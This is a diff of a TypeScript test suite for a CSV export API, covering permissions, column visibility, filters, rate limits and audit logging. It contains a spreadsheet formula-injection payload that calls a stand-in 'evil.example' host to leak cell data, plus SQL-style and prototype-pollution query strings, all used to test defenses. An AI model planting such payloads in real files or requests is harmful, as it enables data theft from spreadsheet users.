@@ -2,9 +2,9 @@ import { request, type IncomingMessage } from 'node:http'
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
 import { step } from '../../db/test/world-deals.ts'
 import type { Person } from '../../db/test/world.ts'
-import { another } from '../../db/transactions/transactions.testing.ts'
+import { another } from '../../db/transactions/test/fixture.ts'
 import { codeOf, openDeals, type Deals } from '../transactions/test/deals.ts'
-import { lists } from './query.ts'
+import { sources } from '../lists/sources.ts'
 import { eventually } from '../test/eventually.ts'
 import { rowsIn, type Row } from './test/table.ts'
 
@@ -12,10 +12,10 @@ let deals: Deals
 
 beforeAll(async () => {
   deals = await openDeals({ LOG_LEVEL: 'debug' })
-  const { cast, kept, owner } = deals
+  const { dealFixture, kept, owner } = deals
   await kept(async () => {
-    await step(cast.operator.admin, cast.transaction, 'issueInvoice')
-    await another(owner, cast, '777.77')
+    await step(dealFixture.operator.admin, dealFixture.transaction, 'issueInvoice')
+    await another(owner, dealFixture, '777.77')
   })
 })
 beforeEach(() => deals.forgetLimits())
@@ -40,8 +40,8 @@ async function audited(): Promise<
   return rows.map(({ entry }) => entry)
 }
 
-test('a list comes as a file that no cache keeps, with a name', async () => {
-  const response = await deals.get('/api/exports/leads.csv', deals.cast.vendor.master.token)
+test('a list is a named file that is never cached', async () => {
+  const response = await deals.get('/api/exports/leads.csv', deals.dealFixture.vendor.master.token)
   expect(Object.fromEntries(response.headers)).toMatchObject({
     'content-type': 'text/csv; charset=utf-8',
     'content-disposition': expect.stringMatching(
@@ -54,22 +54,23 @@ test('a list comes as a file that no cache keeps, with a name', async () => {
   expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
 })
 
-test('every list opens to the operator’s master admin, with all that is in it', async () => {
+test('the operator’s master admin can export every list completely', async () => {
   const tables: Record<string, string> = {
+    tickets: 'support_tickets',
     ledger: 'ledger_lines',
     people: 'user_infos',
     terms: 'commission_terms',
     audit: 'audit_logs',
   }
-  for (const list of Object.keys(lists)) {
+  for (const list of Object.keys(sources)) {
     const { rows } = await deals.owner.query<{ count: number }>(
       `select count(*)::int as count from app.${tables[list] ?? list}`,
     )
-    const found = (await take(list, deals.cast.operator.master)).length
+    const found = (await take(list, deals.dealFixture.operator.master, '?view=ALL')).length
     const more = list === 'audit' ? 1 : 0
     expect(found, list).toBe((rows[0]?.count ?? 0) + more)
   }
-  expect(Object.keys(lists).length).toBe(10)
+  expect(Object.keys(sources).length).toBe(11)
 })
 
 describe('"exactly the columns of the visibility table"', () => {
@@ -90,12 +91,12 @@ describe('"exactly the columns of the visibility table"', () => {
   ]
 
   test('of transactions', async () => {
-    const { vendor, operator, referrer, referrersAdmin, agent } = deals.cast
+    const { vendor, operator, referrer, referrersAdmin, agent } = deals.dealFixture
     expect(await titlesOf('transactions', operator.admin)).toEqual([...always, ...fee, ...payout, 'Earnings'])
     expect(await titlesOf('transactions', vendor.master)).toEqual([...always, ...fee])
     expect(await titlesOf('transactions', referrer)).toEqual([...always, ...payout])
     expect(await titlesOf('transactions', agent)).toEqual(always)
-    // An organization that is a referrer here and may be a provider elsewhere has both, and sees its own side only.
+    // An organization that is both referrer and provider sees only its own side of a deal.
     const [row] = await take('transactions', referrersAdmin)
     expect(row).toMatchObject({
       Fee: '',
@@ -105,8 +106,8 @@ describe('"exactly the columns of the visibility table"', () => {
     })
   })
 
-  test('the figures are those of the deal', async () => {
-    const { vendor, operator, referrer, transaction } = deals.cast
+  test('the amounts match the deal', async () => {
+    const { vendor, operator, referrer, transaction } = deals.dealFixture
     const mine = async (person: Person) =>
       (await take('transactions', person)).find((row) => row['Transaction'] === String(transaction))
     expect(await mine(operator.admin)).toMatchObject({
@@ -120,14 +121,14 @@ describe('"exactly the columns of the visibility table"', () => {
     expect(await mine(referrer)).toMatchObject({ Payout: '493.83', Share: '40.000' })
   })
 
-  test('invoices, terms, applications and the log are closed to who has no part in them', async () => {
-    const { vendor, operator, referrer, agent } = deals.cast
+  test('invoices, terms, applications and the log are refused to uninvolved users', async () => {
+    const { vendor, operator, referrer, agent } = deals.dealFixture
     for (const [list, people] of [
       ['invoices', [referrer, agent]],
       ['ledger', [agent]],
       ['terms', [vendor.master, referrer, agent]],
       ['applications', [vendor.master, referrer, agent]],
-      ['audit', [operator.admin, vendor.master, referrer]],
+      ['audit', [operator.admin, vendor.admin, referrer]],
     ] as const) {
       for (const person of people)
         expect(await codeOf(await deals.get(`/api/exports/${list}.csv`, person.token)), list).toBe(
@@ -137,16 +138,16 @@ describe('"exactly the columns of the visibility table"', () => {
   })
 })
 
-test('another organization’s token takes out nothing of it, and no token nothing at all', async () => {
-  const { third, others } = deals.cast
+test('another organization’s token exports none of it, and a token is required', async () => {
+  const { third, others } = deals.dealFixture
   for (const list of ['leads', 'transactions', 'invoices', 'ledger'])
     expect(await take(list, third), list).toEqual([])
   expect(await take('leads', others.associate)).toEqual([])
   expect(await codeOf(await deals.get('/api/exports/leads.csv'))).toBe('401 UNAUTHENTICATED')
 })
 
-test('a customer’s name, e-mail and phone come as far as one sees them', async () => {
-  const { vendor, agent, referrer } = deals.cast
+test('a customer’s name, email and phone appear only where visible', async () => {
+  const { vendor, agent, referrer } = deals.dealFixture
   for (const person of [vendor.master, agent, referrer])
     for (const row of await take('leads', person))
       expect(row).toMatchObject({
@@ -157,57 +158,79 @@ test('a customer’s name, e-mail and phone come as far as one sees them', async
 
 test('a formula in a customer’s name stays text', async () => {
   const name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-  await deals.owner.query('update app.leads set lead_first_name = $2 where id = $1', [deals.cast.lead, name])
-  const response = await deals.get('/api/exports/leads.csv', deals.cast.vendor.master.token)
+  await deals.owner.query('update app.leads set lead_first_name = $2 where id = $1', [
+    deals.dealFixture.lead,
+    name,
+  ])
+  const response = await deals.get('/api/exports/leads.csv', deals.dealFixture.vendor.master.token)
   const text = await response.text()
   expect(rowsIn(text).map((row) => row['First name'])).toContain(`'${name}`)
   expect(text).not.toMatch(/(^|,|")=/m)
   expect(rowsIn(text).find((row) => row['Phone'])?.['Phone']).toMatch(/^'\+1/)
 })
 
-test('filters leave what they name, by the operator’s days', async () => {
-  const { operator, vendor, transaction } = deals.cast
+test('filters select matching rows, by the operator’s days', async () => {
+  const { operator, vendor, transaction } = deals.dealFixture
   const all = async (query: string) =>
     (await take('transactions', operator.admin, query)).map((row) => row['Transaction'])
-  const ids = (query: string) => all(`${query}&organizationId=${vendor.organization.id}`)
+  const ids = (query: string) => all(`${query}&provider=${vendor.organization.id}`)
   expect(await ids('?status=INVOICE_SENT')).toEqual([String(transaction)])
   expect(await ids('?invoiceStatus=NEW_INVOICE,OVERDUE')).toEqual([String(transaction)])
   expect(await ids('?status=INVOICE_SENT,READY_FOR_INVOICE')).toHaveLength(2)
   await deals.owner.query(`update app.transactions set closed_at = '2026-03-09 04:30Z' where id = $1`, [
     transaction,
   ])
-  expect(await ids('?from=2026-03-08&before=2026-03-09')).toEqual([String(transaction)])
-  expect(await ids('?from=2026-03-09&before=2026-03-10')).toEqual([])
-  expect(await all('?organizationId=1')).toEqual([])
+  expect(await ids('?closed=2026-03-08..2026-03-08')).toEqual([String(transaction)])
+  expect(await ids('?closed=2026-03-09..2026-03-09')).toEqual([])
+  expect(await ids('?closed=..2026-03-08')).toEqual([String(transaction)])
+  expect(await all('?provider=1')).toEqual([])
+})
+
+test('a file has the selected columns in its own order, and the requested sorting', async () => {
+  const { operator, vendor } = deals.dealFixture
+  const rows = await take('transactions', operator.admin, '?columns=fee,actual,transaction&sort=-amount')
+  expect(Object.keys(rows[0] ?? {})).toEqual(['Transaction', 'Actual deal', 'Fee'])
+  const amounts = rows.map((row) => Number(row['Actual deal']))
+  expect(amounts).toEqual(amounts.toSorted((a, b) => b - a))
+  const earnings = await take('transactions', vendor.master, '?columns=transaction,earnings')
+  expect(Object.keys(earnings[0] ?? {})).toEqual(['Transaction'])
 })
 
 test.for([
   'stauts=PAID',
   'status=PAID;drop',
-  'from=2026-02-30',
-  'from=yesterday',
-  'organizationId=1 or 1=1',
-  'organizationId=1&organizationId=2',
+  'closed=2026-02-30..',
+  'closed=yesterday',
+  'closed=..',
+  'closed=2026-01-01',
+  'closed=2026-01-01..2026-01-02..',
+  'provider=1 or 1=1',
+  'provider=',
+  'sort=fee',
+  'sort=--closed',
+  'sort=',
+  'view=MY_LEADS',
+  'columns=secrets',
   '__proto__=x',
   'constructor=x',
 ])('?%s is refused', async (query) => {
-  const token = deals.cast.operator.master.token
+  const token = deals.dealFixture.operator.master.token
   expect(await codeOf(await deals.get(`/api/exports/transactions.csv?${query}`, token))).toBe(
     '400 INVALID_INPUT',
   )
 })
 
 test.for(['secrets', 'constructor', 'leads.csv', 'x'.repeat(300)])('there is no list %s', async (list) => {
-  const { status } = await deals.get(`/api/exports/${list}.csv`, deals.cast.operator.master.token)
+  const { status } = await deals.get(`/api/exports/${list}.csv`, deals.dealFixture.operator.master.token)
   expect([404, 400, 414]).toContain(status)
 })
 
-test('who took what, by which filters and with how many rows, is in the audit log, and no value of a filter', async () => {
+test('the audit log has the user, list, filters and row count, without filter values', async () => {
   const before = (await audited()).length
-  const { operator, vendor } = deals.cast
-  await take('leads', operator.admin, `?organizationId=${vendor.organization.id}&from=2026-01-01`)
-  await deals.get('/api/exports/invoices.csv', deals.cast.referrer.token)
-  const of = { actor: operator.admin.id, list: 'leads', filters: ['from', 'organizationId'] }
+  const { operator, vendor } = deals.dealFixture
+  await take('leads', operator.admin, `?provider=${vendor.organization.id}&submitted=2026-01-01..`)
+  await deals.get('/api/exports/invoices.csv', deals.dealFixture.referrer.token)
+  const of = { actor: operator.admin.id, list: 'leads', filters: ['provider', 'submitted'] }
   await eventually(async () =>
     expect((await audited()).slice(before)).toEqual([
       { ...of, outcome: 'begun' },
@@ -217,18 +240,18 @@ test('who took what, by which filters and with how many rows, is in the audit lo
   expect(deals.product.said()).not.toContain('2026-01-01')
 })
 
-/** So that a file is far larger than what is on its way at a time. */
+/** Makes a file far larger than the buffers. */
 async function withManyServices(count: number): Promise<void> {
   await deals.owner.query(
     `begin; set local session_replication_role = replica;
       insert into app.services (organization_id, name, category_id, customer_type, is_active)
-        select ${deals.cast.vendor.organization.id}, 'Many ' || n || repeat(' words', 30),
+        select ${deals.dealFixture.vendor.organization.id}, 'Many ' || n || repeat(' words', 30),
             (select min(id) from app.categories), 'both', true from generate_series(1, ${count}) n;
       commit`,
   )
 }
 
-/** Begins to take a list and stops reading after the first bytes. */
+/** Starts an export and stops reading after the first bytes. */
 async function begin(list: string, { token }: Person) {
   const call = request(`${deals.address}/api/exports/${list}.csv`, {
     headers: { authorization: `Bearer ${token}` },
@@ -250,9 +273,9 @@ const reading = async () =>
     and state <> 'idle' and xact_start is not null`)
   ).rowCount
 
-test('one at a time for each person; who leaves ends the statement, and what had left is in the log', async () => {
+test('one export at a time per user; a disconnect cancels it and is logged', async () => {
   await withManyServices(60_000)
-  const { vendor, operator } = deals.cast
+  const { vendor, operator } = deals.dealFixture
   const before = (await audited()).length
   const first = await begin('services', vendor.master)
   expect(first.status).toBe(200)
@@ -271,9 +294,9 @@ test('one at a time for each person; who leaves ends the statement, and what had
   expect((await take('leads', vendor.master)).length).toBeGreaterThan(0)
 }, 60_000)
 
-test('whoever takes more than 60 in an hour waits', async () => {
-  const { token } = deals.cast.vendor.admin
-  await take('leads', deals.cast.vendor.admin)
-  await deals.owner.query(`update hidden.rate_limits set used = 60 where bucket = 'export'`)
+test('a user can export at most 60 files an hour', async () => {
+  const { token } = deals.dealFixture.vendor.admin
+  await take('leads', deals.dealFixture.vendor.admin)
+  await deals.owner.query(`update private.rate_limits set used = 60 where bucket = 'export'`)
   expect(await codeOf(await deals.get('/api/exports/leads.csv', token))).toBe('429 RATE_LIMITED')
 })
